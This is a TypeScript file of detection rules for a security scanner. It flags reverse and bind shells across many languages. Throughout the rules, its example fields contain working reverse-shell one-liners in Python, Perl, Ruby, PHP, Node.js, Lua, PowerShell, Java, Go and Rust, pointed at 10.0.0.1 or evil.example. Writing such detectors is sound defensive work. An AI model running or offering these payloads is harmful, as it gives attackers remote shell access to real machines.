/**
 * Rules for reverse and bind shells written in a scripting or compiled language: a socket that is
 * connected or bound, and within a few hundred bytes a shell, a process, or duplicated descriptors.
 *
 * A plain socket client or a plain subprocess is no finding.
 */
import type { Direction, Rule } from "../scan/rule.ts";

const BOTH: readonly Direction[] = ["outbound", "inbound"];
const SOURCE = "MITRE ATT&CK T1059, T1095";
/** Every rule about a socket and a shell in program text. */
export const REVERSE_SHELL_SCRIPT_RULES: readonly Rule[] = [
  {
    id: "python_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [".connect((", ".bind((", ".connect_ex((", "create_connection(("],
    regexp: new RegExp(
      String
        .raw`(?:\.connect(?:_ex)?|\.bind|create_connection)\(\([^]{2,460}?(?:\bdup2\b|\bsubprocess\b|\bpty\b|\b[pP]open\b|os\.system|["'\/](?:ba|z)?sh\\{0,3}["']|cmd\.exe|\bexec\(|shell ?= ?True)`,
    ),
    maxLength: 600,
    description: "A Python socket joined to a process or a terminal.",
    source: `${SOURCE}.006; Python: socket, subprocess, pty; GTFOBins python`,
    examples: [
      's.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);import pty;pty.spawn("/bin/sh")',
      "s.bind(('0.0.0.0',9001));s.listen(1);c,a=s.accept()\nwhile True: p=sp.Popen(c.recv(1024),shell=True)",
    ],
    nonExamples: [
      "s.connect((host, 80))\ns.sendall(b'GET /')",
      "server.bind(('', 8080))\nserver.listen()",
    ],
  },
  {
    id: "python_command_socket",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "python -c",
      "python3 -c",
      "python2 -c",
      "python.exe -c",
      "python2.7 -c",
      "python3.8 -c",
    ],
    regexp:
      /\bpython(?:3|2|\.exe|2\.7|3\.8)? -c(?=[^]{0,400}?(?:\bsubprocess\b|\bpty\b|\bdup2\b|\/bin\/(?:ba)?sh|\bpopen\b|os\.system\(|cmd\.exe))[^]{1,400}?\bsocket\b[^]{1,240}?(?:connect\(|bind\()/,
    maxLength: 680,
    description: "A Python one-liner with a socket and a process.",
    source: `${SOURCE}.006; Python: socket, subprocess, pty; GTFOBins python`,
    examples: [
      "python -c 'import socket,subprocess;s=socket.socket();s.connect((\"evil.example\",4444))'",
      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((os.getenv(\"H\"),1))'",
    ],
    nonExamples: ["python3 -c 'import socket; print(socket.gethostname())'", "import socket, sys"],
  },
  {
    id: "perl_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["use socket", "io::socket"],
    regexp:
      /(?:\buse Socket\b|IO::Socket)[^]{1,400}?(?:->fdopen\(|\bexec ?[({"'\\]{0,4}(?:\/bin\/|\$|\w{0,3}sh\b|cmd)|\bsystem ?[($]|open\(STDIN|open STDIN|\bqx[({])/i,
    maxLength: 460,
    description: "A Perl socket joined to a shell.",
    source: `${SOURCE}; perlipc, IO::Socket::INET; GTFOBins perl`,
    examples: [
      'perl -e \'use Socket;$i="10.0.0.1";socket(S,PF_INET,SOCK_STREAM,0);connect(S,$x);open(STDIN,">&S");exec("/bin/sh -i");\'',
      "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"10.0.0.1:4242\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    ],
    nonExamples: ["use Socket;\nmy $a = inet_aton('example.org');\nprint $a;"],
  },
  {
    id: "ruby_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["tcpsocket.", "tcpserver.", "socket.tcp("],
    regexp:
      /(?:(?<=spawn\([^)\r\n]{1,100}?)TCPSocket\.(?:new|open)\(|TCP(?:Socket|Server)\.(?:new|open)\([^]{0,320}?(?:\bexec\b|IO\.popen|\bspawn\b|\bsystem\b|Process\.(?:new|run)|Open3|%x|\/bin\/(?:ba|z)?sh)|Socket\.tcp\([^]{0,320}?Process\.(?:new|run))/,
    maxLength: 460,
    description: "A Ruby or Crystal socket joined to a process.",
    source: `${SOURCE}; Ruby: TCPSocket, IO.popen; GTFOBins ruby`,
    examples: [
      'ruby -rsocket -e\'spawn("sh",[:in,:out,:err]=>TCPSocket.new("10.0.0.1",4242))\'',
      'c=TCPSocket.new("10.0.0.1",4242);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end',
    ],
    nonExamples: ["s = TCPSocket.new('example.org', 80)\ns.puts 'GET /'"],
  },
  {
    id: "php_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["fsockopen(", "socket_create(", "stream_socket_client(", "stream_socket_server("],
    regexp:
      /\b(?:p?fsockopen|socket_create|stream_socket_(?:client|server))\([^]{1,440}?(?:\b(?:shell_exec|exec|system|passthru|popen|proc_open) ?\(|=`|= `|`[^\r\n`]{1,60}[<>]&|\/bin\/(?:ba|z|da)?sh|cmd\.exe)/i,
    maxLength: 560,
    description: "A PHP socket joined to a process.",
    source: `${SOURCE}; PHP manual: fsockopen(), proc_open(); GTFOBins php`,
    examples: ['php -r \'$sock=fsockopen("10.0.0.1",4242);exec("/bin/sh -i <&3 >&3 2>&3");\''],
    nonExamples: ["$fp = fsockopen('example.org', 80);\nfwrite($fp, $out);\nfclose($fp);"],
  },
  {
    id: "node_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["child_process"],
    regexp:
      /child_process(?=[^]{0,420}?(?:\.connect\(|createServer|net\.Socket|createConnection))[^]{1,140}?(?:spawn|exec|execFile)(?:Sync)?\(\s{0,4}(?:\\{0,3}["'`][\w\/.:\\ ]{0,24}?(?:sh|cmd|powershell)(?:\.exe)?\\{0,3}["'`]|\w{1,12}\b)[^]{1,300}?\.pipe\(/,
    maxLength: 560,
    description: "A Node.js socket piped to a shell.",
    source: `${SOURCE}.007; Node.js: net, child_process; GTFOBins node`,
    examples: [
      'sh = require("child_process").spawn("/bin/sh");require("net").connect(4242, "10.0.0.1", function () { this.pipe(sh.stdin); })',
      'var net = require("net"), cp = require("child_process"), sh = cp.spawn("/bin/sh", []);var c = new net.Socket();c.connect(4242, "10.0.0.1", function(){ c.pipe(sh.stdin);',
    ],
    nonExamples: [
      'const { spawn } = require("child_process");\nconst p = spawn("ls");\np.stdout.pipe(process.stdout);',
    ],
  },
  {
    id: "lua_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "require('socket')",
      'require("socket")',
      "require 'socket'",
      'require "socket"',
      'require(\\"socket\\")',
      "socket.tcp()",
    ],
    regexp:
      /(?:require(?:\('socket'\)|\("socket"\)| 'socket'| "socket"|\(\\"socket\\"\))|socket\.tcp\(\))[^]{1,320}?(?:os\.execute|io\.popen)/,
    maxLength: 380,
    description: "A Lua socket joined to a process.",
    source: `${SOURCE}.011; LuaSocket, Lua manual: os.execute; GTFOBins lua`,
    examples: [
      "lua -e \"require('socket');t=socket.tcp();t:connect('10.0.0.1','4242');os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    ],
    nonExamples: ["local socket = require('socket')\nlocal c = socket.connect('example.org', 80)"],
  },
  {
    id: "powershell_tcp_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "net.sockets.tcp",
      "net.sockets.udpclient",
      "new tcpclient(",
      "0..65535",
      ".receivebuffersize",
    ],
    regexp:
      /(?:Net\.Sockets\.(?:Tcp(?:Client|Listener)|UdpClient)|new TcpClient\()[^]{1,580}?(?:\biex\b|Invoke-Expression|cmd\.exe|FileName ?=|Out-String|powershell|Start-Process|\/bin\/(?:ba)?sh|SHELL> |'PS ')|\b0\.\.65535 ?\| ?% ?\{ ?0|(?<=0\.\.\$\w{1,20})\.ReceiveBufferSize/i,
    maxLength: 700,
    description: "A .NET socket joined to a command interpreter.",
    source: `${SOURCE}.001; Microsoft: System.Net.Sockets.TcpClient, Invoke-Expression; Nishang`,
    examples: [
      "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$stream = $client.GetStream();$data = 'x';$sendback = (iex $data 2>&1 | Out-String );",
      "[byte[]]$bytes = 0..65535|%{0}",
    ],
    nonExamples: ["(New-Object Net.Sockets.TcpClient).Connect('example.org', 443)"],
  },
  {
    id: "powershell_http_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["while ($true)", "while($true)"],
    regexp:
      /while ?\(\$true\)(?=[^]{0,320}?(?:\bIRM\b|\bIWR\b|Invoke-RestMethod|Invoke-WebRequest|Net\.WebClient))[^]{1,320}?\b(?:iex|Invoke-Expression)\b/i,
    maxLength: 480,
    description: "A PowerShell loop that fetches commands and runs them.",
    source: `${SOURCE}.001, T1071.001`,
    examples: ["while ($true){$c=(IRM -Uri $u);if ($c -ne 'None') {$r=IEX $c}}"],
    nonExamples: ["while ($true) { Start-Sleep 5; Get-Process }"],
  },
  {
    id: "java_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: ["processbuilder(", "new socket(", "new java.net.socket("],
    regexp:
      /\bProcessBuilder\((?=[^]{0,420}?(?:getInputStream|OutputStream))[^]{1,240}?new (?:java\.net\.)?Socket\(|\bProcessBuilder\(\\{0,2}["'][\w\/.]{0,16}(?:sh|cmd\.exe)\\{0,2}["'][^]{1,200}?new (?:java\.net\.)?Socket\(|\bnew (?:java\.net\.)?Socket\([^)\r\n]{1,80}\)[^]{0,300}?(?:getRuntime(?:\(\))?\.exec|\bProcessBuilder\b)/,
    maxLength: 500,
    description: "A Java, Groovy or JavaScript-for-JVM socket joined to a process.",
    source: `${SOURCE}; Java SE: ProcessBuilder, java.net.Socket; GTFOBins jrunscript`,
    examples: [
      'Process p=new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();Socket s=new Socket(host,port);InputStream pi=p.getInputStream();',
      'Socket s = new Socket( "10.0.0.1", 4242 );\nProcess p = Runtime.getRuntime().exec( shell );',
    ],
    nonExamples: ['Socket s = new Socket("example.org", 80);\ns.getOutputStream().write(b);'],
  },
  {
    id: "compiled_socket_shell",
    pattern: "reverse_shell",
    type: "INJECTION",
    severity: "high",
    directions: BOTH,
    anchors: [
      "dup2(",
      "net.dial(",
      "tcpstream::connect(",
      "wsasocket",
      "socket.connect(",
      "gen_tcp:connect(",
      "gen_tcp.connect(",
      "socketconnection(",
    ],
    regexp:
      /\b[dD]up2\([^\r\n]{1,60}?,\s?[0-2]\s?\)[^]{0,320}?(?:\bexec[lv]p?e?\s?\(|\bExec\(|pty\.spawn|\/bin\/(?:ba|da|z)?sh|subprocess)|\bnet\.Dial\([^]{1,360}?exec\.Command\(|TcpStream::connect\([^]{1,360}?Command::new\(|\bWSASocket[^]{1,500}?(?:CreateProcess|\bcmd\b)|\b[sS]ocket\.connect\([^]{1,240}?(?:Process\.(?:start|run)\(|\bexec(?:Process|Cmd)\w{0,4}\()|\bgen_tcp[:.]connect\([^]{1,240}?(?:os:cmd\(|System\.cmd\()|socketConnection\([^]{1,160}?system\(/,
    maxLength: 660,
    description: "A socket joined to a process in C, Go, Rust, Dart, Nim, Erlang or R.",
    source: `${SOURCE}; dup2(2), execve(2); Go net.Dial, os/exec; Rust std::net::TcpStream`,
    examples: [
      'dup2(sockt, 0); dup2(sockt, 1); dup2(sockt, 2); char * const argv[] = {"sh", NULL}; execvp("sh", argv);',
      'c,_:=net.Dial("tcp","10.0.0.1:4242");cmd:=exec.Command("/bin/sh");cmd.Stdin=c;',
      'let s = TcpStream::connect("10.0.0.1:4242").unwrap(); Command::new("/bin/sh").arg("-i")',
    ],
    nonExamples: [
      'conn, err := net.Dial("tcp", addr)\nif err != nil { return err }',
      "dup2(fd, 1); close(fd);",
    ],
  },
];
